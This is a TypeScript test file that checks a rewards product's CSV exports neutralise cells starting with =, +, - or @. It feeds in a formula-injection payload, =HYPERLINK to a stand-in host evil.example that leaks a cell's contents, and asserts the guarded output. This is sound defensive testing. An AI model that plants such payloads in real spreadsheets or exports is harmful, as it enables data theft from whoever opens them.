import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { consoleImportPaths, type ImportJob } from '@rewards/contract/console-imports';
import { consoleAuditPaths } from '@rewards/contract/console-participants';
import { recordAudit } from '../src/modules/audit/service.ts';
import { insertRejects } from '../src/modules/imports/store.ts';
import { appendLedgerEntry } from '../src/modules/ledger/store.ts';
import { printRunCsv } from '../src/modules/ots/print-runs.ts';
import { createConsoleTestApp, enrolStaff, type ConsoleTestApp } from '../src/modules/staff/test-support.ts';
import { forecastCsv } from '../src/cli/commands/points-forecast.ts';
import { openRejectsFile, writeRejects } from '../src/cli/import-report.ts';
import { rewardsJson } from './cli.ts';
import { dialects } from './databases.ts';

/**
 * Every CSV the product writes, each with text starting with = + - @ (issue 27 §4 A): one writer
 * (packages/contract/src/csv.ts, decision 073) neutralises them all, and figures, negative ones
 * included, stay numbers. The browser's two CSVs (the console's reports, the portal's history)
 * have theirs beside them (apps/console/src/features/reports/report-csv.test.ts,
 * apps/web/src/features/activity/csv.test.ts).
 */
const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1;"open")';
const FORMULAS = [HYPERLINK, '+1+2', '-2+3', '@SUM(A1:A9)'] as const;
const NEUTRALISED = FORMULAS.map((text) => `'${text}`);
/** How the writer puts the first one on the line: guarded, then quoted (it holds quotes). */
const HYPERLINK_CELL = `"'=HYPERLINK(""http://evil.example/?x=""&A1;""open"")"`;

const rowsOf = (text: string) => parse(text, { bom: true }) as string[][];
const linesOf = (text: string) => text.replace(/^\uFEFF/, '').split('\r\n');

describe('the CSV exports that read no database', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'csv-exports-'));
  });
  afterAll(() => rm(dir, { recursive: true, force: true }));

  it("a print run's codes (console download and `codes generate --out`): the batch name and codes as text, the value a number", () => {
    const text = printRunCsv({ batch: HYPERLINK, count: 3, value: -250, expiresAt: null }, FORMULAS.slice(1));
    expect(linesOf(text)).toEqual([
      'code,value,expires_at,batch',
      `'+1+2,-250,,${HYPERLINK_CELL}`,
      `'-2+3,-250,,${HYPERLINK_CELL}`,
      `'@SUM(A1:A9),-250,,${HYPERLINK_CELL}`,
      '',
    ]);
  });

  it('`points forecast --csv`: the months as text, the points numbers', () => {
    const text = forecastCsv({ months: FORMULAS.map((month, i) => ({ month, points: -250 * i })) });
    expect(linesOf(text)).toEqual(['month,points', `${HYPERLINK_CELL},0`, "'+1+2,-250", "'-2+3,-500", "'@SUM(A1:A9),-750"]);
  });

  it("both imports' `--rejects` file (`participants import`, `points import`): reasons as text, lines as numbers", async () => {
    const rejects = FORMULAS.map((reason, i) => ({ line: i + 2, reason }));
    const atOnce = join(dir, 'participants-rejects.csv');
    await writeRejects(atOnce, rejects);
    const streamed = join(dir, 'points-rejects.csv');
    const file = openRejectsFile(streamed);
    for (const reject of rejects) file.write(reject);
    await file.close();
    for (const path of [atOnce, streamed]) {
      const text = await readFile(path, 'utf8');
      expect(linesOf(text)).toEqual(['line,reason', `2,${HYPERLINK_CELL}`, "3,'+1+2", "4,'-2+3", "5,'@SUM(A1:A9)", '']);
      expect(rowsOf(text).slice(1)).toEqual(NEUTRALISED.map((reason, i) => [String(i + 2), reason]));
    }
  });
});

describe.each(dialects)('the CSV exports over the database on %s', (dialect) => {
  let t: ConsoleTestApp;
  let owner: string;
  let dir: string;

  beforeAll(async () => {
    t = await createConsoleTestApp(dialect);
    owner = (await enrolStaff(t, 'owner@rewards.test', { owner: true })).cookie;
    dir = await mkdtemp(join(tmpdir(), 'csv-exports-'));
  });
  afterAll(async () => {
    await t.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('`statements export --all`: a username and descriptions as text, points and balances numbers', async () => {
    const created = await rewardsJson<{ id: string }>(t.database, [
      'participants',
      'create',
      HYPERLINK,
      '--client',
      'acme',
      '--first-name',
      'Eve',
      '--last-name',
      'Mallory',
      '--email',
      'eve@evil.example',
      '--account-number',
      '990027',
    ]);
    await t.database.db.transaction().execute(async (trx) => {
      for (const [i, description] of FORMULAS.entries()) {
        await appendLedgerEntry(trx, {
          clientId: 'acme',
          participantId: created.id,
          occurredAt: `2026-11-0${i + 1}T08:00:00.000Z`,
          description,
          amount: i === 0 ? 1000 : -250 + i,
          kind: 'adjustment',
        });
      }
    });
    const out = join(dir, 'statements.csv');
    await rewardsJson(t.database, ['statements', 'export', '--client', 'acme', '--all', '--out', out]);
    const text = await readFile(out, 'utf8');
    const evil = rowsOf(text).filter((row) => row[0] === NEUTRALISED[0]);
    expect(evil.map((row) => row.slice(2))).toEqual([
      [NEUTRALISED[0], '1000', '1000'],
      [NEUTRALISED[1], '-249', '751'],
      [NEUTRALISED[2], '-248', '503'],
      [NEUTRALISED[3], '-247', '256'],
    ]);
    expect(linesOf(text)).toContain(`${HYPERLINK_CELL},2026-11-02 08:00:00,'+1+2,-249,751`);
    // Nothing of the export starts a cell with a formula: every cell is either guarded or harmless.
    for (const row of rowsOf(text)) for (const cell of row) expect(cell, row.join(',')).not.toMatch(/^[=+@\t\r]|^-(?!\d+$)/);
  });

  it('the audit trail (console download): actor, subject and reason as text', async () => {
    for (const [i, text] of FORMULAS.entries()) {
      await recordAudit(
        t.database.db,
        { clientId: 'acme', actor: text, actorKind: 'operator', action: 'csvcheck.run', subject: text, details: { reason: text } },
        new Date(Date.UTC(2026, 10, 20 + i)),
      );
    }
    const reply = await t.console('GET', `${consoleAuditPaths.csv}?action=csvcheck`, { cookie: owner });
    expect(reply.statusCode).toBe(200);
    const rows = rowsOf(reply.body);
    expect(rows[0]).toEqual(['at', 'client', 'actor', 'actor_kind', 'action', 'subject', 'origin', 'reason', 'details']);
    // Newest first.
    expect(rows.slice(1).map(([, , actor, , , subject, , reason]) => [actor, subject, reason])).toEqual(
      [...NEUTRALISED].reverse().map((text) => [text, text, text]),
    );
  });

  it("an import's rejected lines (console download): reasons as text, lines as numbers", async () => {
    const header = 'username,points,date,description,external_id';
    const upload = await t.console('POST', `${consoleImportPaths.imports('acme')}?kind=points&fileName=csv-check.csv`, {
      cookie: owner,
      headers: { 'content-type': 'text/csv' },
      payload: `${header}\ndemo,40,2026-06-01,June,csv-check-1\n`,
    });
    expect(upload.statusCode).toBe(201);
    const jobId = upload.json<ImportJob>().id;
    // Its preview first (the route's own runner), so that the rejects added below stay.
    const deadline = Date.now() + 30_000;
    while ((await t.console('GET', consoleImportPaths.job('acme', jobId), { cookie: owner })).json<ImportJob>().status === 'previewing') {
      if (Date.now() > deadline) throw new Error('the preview did not end');
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    await insertRejects(
      t.database.db,
      jobId,
      'preview',
      FORMULAS.map((reason, i) => ({ line: 100 + i, reason })),
    );
    const reply = await t.console('GET', consoleImportPaths.rejects('acme', jobId), { cookie: owner });
    expect(reply.statusCode).toBe(200);
    expect(linesOf(reply.body)).toEqual(['line,reason', `100,${HYPERLINK_CELL}`, "101,'+1+2", "102,'-2+3", "103,'@SUM(A1:A9)", '']);
  });
});
